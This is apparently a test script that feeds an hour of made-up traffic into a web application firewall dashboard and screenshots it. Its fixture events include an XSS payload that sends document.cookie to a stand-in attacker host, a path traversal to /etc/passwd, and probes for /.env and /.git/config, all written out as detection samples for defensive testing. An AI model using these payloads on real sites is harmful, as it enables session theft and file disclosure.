// Takes pictures of the dashboard over an hour of made-up traffic:
// node test/pictures.mjs [directory]

import { mkdir } from "node:fs/promises";
import { join } from "node:path";
import { finding, injection, request } from "./events.mjs";
import { logIn, startBrowser, startFixture } from "./fixture.mjs";

const directory = process.argv[2] ?? "pictures";
await mkdir(directory, { recursive: true });

// The same pictures every time.
let seed = 7;
const random = () => {
  seed = (seed * 1_103_515_245 + 12_345) % 2_147_483_648;
  return seed / 2_147_483_648;
};
const pick = (list) => list[Math.floor(random() * list.length)];

const plain = () =>
  request({
    client: `198.51.100.${Math.floor(random() * 60)}`,
    method: random() < 0.85 ? "GET" : "POST",
    target: pick([
      "/v1/products?q=stroller&page=2",
      "/v1/recalls/2024-1187",
      "/v1/recalls?brand=O%27Neill%20Baby",
      "/v1/products/8812",
      "/v1/incidents",
      "/v1/login",
    ]),
    status: random() < 0.02 ? 502 : pick([200, 200, 200, 200, 201, 304, 404]),
    decision_micros: 20 + Math.floor(random() * 70),
    total_micros: 800 + Math.floor(random() * 6000),
  });

const xss = () =>
  injection({
    client: pick(["203.0.113.66", "192.0.2.140"]),
    method: "POST",
    target: "/v1/incidents",
    agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/140.0",
    score: 10,
    findings: [
      finding({
        rule: "941100",
        message: "XSS Attack Detected via libinjection",
        class: "xss",
        field: "ARGS:json.description",
        value: 'The wheel came off. <svg onload="fetch(`//evil.example/`+document.cookie)">',
        matched: '<svg onload="fetch(`//evil.example/`+document.cookie)">',
        source: "REQUEST-941-APPLICATION-ATTACK-XSS.conf:55",
      }),
    ],
  });

const traversal = () =>
  injection({
    client: "192.0.2.140",
    target: "/v1/files?name=..%2f..%2f..%2fetc%2fpasswd",
    score: 5,
    findings: [
      finding({
        rule: "930110",
        message: "Path Traversal Attack (/../)",
        class: "lfi",
        field: "ARGS:name",
        value: "../../../etc/passwd",
        matched: "../",
        source: "REQUEST-930-APPLICATION-ATTACK-LFI.conf:71",
      }),
    ],
  });

const probe = () =>
  request({
    verdict: "block",
    enforced: true,
    layer: "path",
    client: pick(["192.0.2.140", "203.0.113.201"]),
    target: pick(["/.env", "/wp-login.php", "/.git/config", "/phpmyadmin/index.php"]),
    status: 403,
    upstream: null,
    threshold: 0,
    agent: "Mozilla/5.0 zgrab/0.x",
    findings: [
      finding({
        rule: "path:secrets",
        message: "Path that only scanners ask for",
        class: "scanner",
        severity: "",
        field: "REQUEST_FILENAME",
        value: "/.env",
        matched: "/.env",
        source: "builtin",
      }),
    ],
  });

const limited = () =>
  request({
    verdict: "limit",
    enforced: true,
    layer: "limit",
    client: "203.0.113.17",
    method: "POST",
    target: "/v1/login",
    route: "POST /v1/login",
    status: 429,
    upstream: null,
    threshold: 0,
    findings: [
      finding({
        rule: "limit:login",
        message: "More than 5/min per ip + body.email",
        class: "rate",
        severity: "",
        field: "",
        value: "",
        matched: "",
        source: "",
      }),
    ],
  });

const smuggled = () =>
  request({
    verdict: "refuse",
    enforced: true,
    layer: "protocol",
    client: "203.0.113.201",
    method: "POST",
    target: "/v1/products",
    route: null,
    status: 400,
    upstream: null,
    threshold: 0,
    findings: [
      finding({
        rule: "protocol:framing",
        message: "Both Content-Length and Transfer-Encoding",
        class: "smuggling",
        field: "Transfer-Encoding",
        value: "chunked",
        matched: "chunked",
        source: "",
      }),
    ],
  });

/** An hour: steady traffic, a scan in the middle, a burst of logins towards the end. */
function hour(mode) {
  const now = Date.now();
  const events = [];
  for (let minute = 59; minute >= 0; minute -= 1) {
    const at = () => Math.min(now - minute * 60_000 - Math.floor(random() * 59_000), now);
    const calm = 60 + Math.floor(24 * Math.sin(minute / 9) + random() * 18);
    for (let i = 0; i < calm; i += 1) events.push([at(), plain()]);
    const scan = minute > 26 && minute < 38 ? 14 : 1;
    for (let i = 0; i < scan; i += 1) events.push([at(), pick([injection, xss, traversal, probe, probe])()]);
    const burst = minute > 6 && minute < 14 ? 22 : 0;
    for (let i = 0; i < burst; i += 1) events.push([at(), limited()]);
    if (random() < 0.25) events.push([at(), smuggled()]);
  }
  events.sort(([a], [b]) => a - b);
  return events.map(([at, event]) => {
    return request({ ...as(mode, event), at, id: undefined });
  });
}

/** What becomes of an event in that mode. */
function as(mode, event) {
  if (mode === "enforce" || event.verdict === "allow") return { ...event, mode };
  return { ...event, mode, enforced: false, status: 200 };
}

const options = [
  { mode: "enforce", scheme: "light" },
  { mode: "enforce", scheme: "dark" },
  { mode: "watch", scheme: "light" },
];

for (const { mode, scheme } of options) {
  const fixture = await startFixture(mode);
  const browser = await startBrowser({ colorScheme: scheme });
  const page = browser.context.pages()[0];
  await logIn(page, fixture);
  await page.screenshot({ path: join(directory, `${mode}-${scheme}-empty.png`) });
  const events = hour(mode);
  // In portions that the page can follow.
  while (events.length > 0) {
    for (const event of events.splice(0, 500)) fixture.record(event);
    await page.waitForTimeout(200);
  }
  fixture.record({ type: "system", at: Date.now(), name: "policy.reloaded", message: "babyshield.toml: 214 rules, 6 routes" });
  for (const event of [plain(), plain(), injection(), plain(), xss(), plain(), plain()]) {
    fixture.record(as(mode, event));
  }
  await page.locator("tbody tr").first().waitFor();
  await page.waitForTimeout(4500);
  await page.screenshot({ path: join(directory, `${mode}-${scheme}.png`) });
  await page.locator("tr", { hasText: "942100" }).first().locator(".row-open").click();
  await page.waitForTimeout(700);
  await page.screenshot({ path: join(directory, `${mode}-${scheme}-detail.png`) });
  await page.locator(".panel-body").evaluate((body) => body.scrollTo(0, body.scrollHeight));
  await page.screenshot({ path: join(directory, `${mode}-${scheme}-fix.png`) });
  if (scheme === "light" && mode === "enforce") {
    await page.keyboard.press("Escape");
    await page.setViewportSize({ width: 420, height: 900 });
    await page.waitForTimeout(500);
    await page.screenshot({ path: join(directory, `${mode}-${scheme}-narrow.png`), fullPage: true });
  }
  await browser.stop();
  await fixture.stop();
}
